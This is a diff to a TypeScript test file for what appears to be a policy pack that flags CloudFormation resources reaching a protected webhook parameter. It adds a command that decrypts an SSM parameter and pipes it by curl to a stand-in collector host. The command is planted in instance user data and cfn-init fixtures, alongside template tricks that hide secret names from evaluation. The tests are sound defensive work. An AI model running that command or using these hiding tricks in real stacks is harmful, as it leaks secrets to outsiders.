@@ -62,6 +62,9 @@ function sweepingRead(label: string, resource: string): [string, string] {
   ];
 }
 
+/** A command that reads a receiver parameter and sends it elsewhere. */
+const READ_COMMAND = `aws ssm get-parameter --with-decryption --name ${NAME} | curl -s --data-binary @- https://collector.example.net/in`;
+
 /** A template body of one resource. */
 function template(logicalId: string, type: string, properties: Record<string, unknown>): string {
   return JSON.stringify({
@@ -343,6 +346,151 @@ const ROWS: Row[] = [
       ],
     ],
   },
+  // What a template says through functions the pack does not evaluate, or outside Properties.
+  ...(
+    [
+      [
+        "an instance's user data written as Fn::Base64 of Fn::Sub, with the path from a parameter",
+        {
+          Host: {
+            Type: "AWS::EC2::Instance",
+            Properties: {
+              ImageId: "ami-0123456789abcdef0",
+              UserData: {
+                "Fn::Base64": {
+                  "Fn::Sub": `#!/bin/bash\n${READ_COMMAND.replace("/webhooks/", "/${Prefix}/")}\n`,
+                },
+              },
+            },
+          },
+        },
+        `CloudFormation resource "Host" (AWS::EC2::Instance)`,
+        `userData "${NAME}"`,
+      ],
+      [
+        "a task definition's secret taken from Mappings with Fn::FindInMap",
+        {
+          Task: {
+            Type: "AWS::ECS::TaskDefinition",
+            Properties: {
+              ContainerDefinitions: [
+                {
+                  Name: "app",
+                  Image: "busybox",
+                  Secrets: [{ Name: "URL", ValueFrom: { "Fn::FindInMap": ["Secrets", "jira", "url"] } }],
+                },
+              ],
+            },
+          },
+        },
+        `CloudFormation resource "Task" (AWS::ECS::TaskDefinition)`,
+        `containerDefinitions[0].secrets[0].ValueFrom "${NAME}"`,
+      ],
+      [
+        "a task definition's secret from Fn::FindInMap by a key the stack chooses",
+        {
+          Task: {
+            Type: "AWS::ECS::TaskDefinition",
+            Properties: {
+              ContainerDefinitions: [
+                {
+                  Name: "app",
+                  Image: "busybox",
+                  Secrets: [
+                    { Name: "URL", ValueFrom: { "Fn::FindInMap": ["Secrets", { Ref: "Team" }, "url"] } },
+                  ],
+                },
+              ],
+            },
+          },
+        },
+        `CloudFormation resource "Task" (AWS::ECS::TaskDefinition)`,
+        `Properties.ContainerDefinitions[0].Secrets[0].ValueFrom["Fn::FindInMap"].jira.url "${NAME}"`,
+      ],
+      [
+        "a build's PARAMETER_STORE variable picked with Fn::Select, from a list or Fn::Split",
+        {
+          Build: {
+            Type: "AWS::CodeBuild::Project",
+            Properties: {
+              Environment: {
+                EnvironmentVariables: [
+                  { Name: "A", Type: "PARAMETER_STORE", Value: { "Fn::Select": [0, [NAME]] } },
+                  {
+                    Name: "B",
+                    Type: "PARAMETER_STORE",
+                    Value: { "Fn::Select": [1, { "Fn::Split": [",", `x,${NAME}`] }] },
+                  },
+                ],
+              },
+            },
+          },
+        },
+        `CloudFormation resource "Build" (AWS::CodeBuild::Project)`,
+        `environment.EnvironmentVariables[0].Value "${NAME}"; environment.EnvironmentVariables[1].Value "${NAME}"`,
+      ],
+      [
+        "a name inside a function the pack does not evaluate (Fn::GetAtt, Fn::ImportValue)",
+        {
+          Reader: {
+            Type: "AWS::Lambda::Function",
+            Properties: {
+              Role: { "Fn::ImportValue": { "Fn::Sub": "reader-role" } },
+              Environment: {
+                Variables: { URL: { "Fn::GetAtt": [{ "Fn::Sub": "/${Prefix}/jira/url" }, "Value"] } },
+              },
+            },
+          },
+        },
+        `CloudFormation resource "Reader" (AWS::Lambda::Function)`,
+        `Properties.Environment.Variables.URL["Fn::GetAtt"][0] "${NAME}"`,
+      ],
+      [
+        "an instance's AWS::CloudFormation::Init command, in its Metadata, run by cfn-init",
+        {
+          Host: {
+            Type: "AWS::EC2::Instance",
+            Metadata: {
+              "AWS::CloudFormation::Init": {
+                config: { commands: { "01-report": { command: READ_COMMAND } } },
+              },
+            },
+            Properties: { ImageId: "ami-0123456789abcdef0" },
+          },
+        },
+        `CloudFormation resource "Host" (AWS::EC2::Instance)`,
+        `Metadata["AWS::CloudFormation::Init"].config.commands["01-report"].command "${NAME}"`,
+      ],
+      [
+        "a launch template's Metadata behind an Fn::If",
+        {
+          Launch: {
+            Type: "AWS::EC2::LaunchTemplate",
+            Metadata: { Commands: { "Fn::If": ["Never", [READ_COMMAND], []] } },
+            Properties: { LaunchTemplateData: { ImageId: "ami-0123456789abcdef0" } },
+          },
+        },
+        `CloudFormation resource "Launch" (AWS::EC2::LaunchTemplate)`,
+        `Metadata.Commands[0] "${NAME}"`,
+      ],
+    ] as const
+  ).map(([row, resources, subject, references]): Row => {
+    const type = "aws:cloudformation/stack:Stack";
+    return {
+      row: `a CloudFormation template: ${row}`,
+      type,
+      props: {
+        name: "reporting",
+        templateBody: JSON.stringify({
+          Parameters: { Prefix: { Type: "String", Default: "webhooks" }, Team: { Type: "String" } },
+          Mappings: { Secrets: { jira: { url: NAME } } },
+          Conditions: { Never: { "Fn::Equals": ["a", "b"] } },
+          Resources: resources,
+        }),
+      },
+      violations: [["webhooks-access-judged", unjudged(subject, references, `${type}::${NAME_OF}`)]],
+    };
+  }),
   failsClosed(
     "a stack set instance passing /webhooks/ to its template",
     "aws:cloudformation/stackSetInstance:StackSetInstance",
